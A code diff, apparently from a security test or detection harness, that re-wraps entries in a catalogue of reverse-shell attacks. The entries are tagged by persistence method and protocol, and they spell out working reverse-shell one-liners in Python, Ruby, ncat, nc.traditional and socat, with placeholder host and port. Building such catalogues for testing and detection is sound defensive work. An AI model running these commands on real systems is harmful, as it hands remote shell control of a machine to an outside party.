@@ -118,7 +118,8 @@ ATTACKS = [
                             "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
                             "os.execl('/bin/bash', 'bash')\n"}),
     Attack("ruby_exec_cron", "A", "ruby", "cron", "tcp",
-           "ruby -rsocket -e 'c=TCPSocket.new(\"@H@\",@P@);exec \"/bin/sh\",:in=>c,:out=>c,:err=>c'",
+           "ruby -rsocket -e 'c=TCPSocket.new(\"@H@\",@P@);"
+           "exec \"/bin/sh\",:in=>c,:out=>c,:err=>c'",
            needs=("ruby",)),
     Attack("go_exec_service", "A", "binary", "service", "tcp", "@D@/agent @H@:@P@ exec",
            needs=("remote",), files={"agent": "copy:@C@/remote"}),
@@ -147,7 +148,8 @@ ATTACKS = [
            needs=("ncat",), live=True),
     Attack("ncat_udp_cron", "B", "netcat", "cron", "udp",
            "echo | ncat -u @H@ @P@ -c 'echo up; exec sh'", needs=("ncat",)),
-    Attack("nc_traditional_c_ssh", "B", "netcat", "ssh", "tcp", "nc.traditional @H@ @P@ -c 'exec sh'",
+    Attack("nc_traditional_c_ssh", "B", "netcat", "ssh", "tcp",
+           "nc.traditional @H@ @P@ -c 'exec sh'",
            needs=("nc.traditional",)),
     Attack("socat_pty_web", "B", "socat", "web", "tcp",
            "socat TCP:@H@:@P@ EXEC:'bash -li',pty,stderr,setsid,sigint,sane", needs=("socat",),
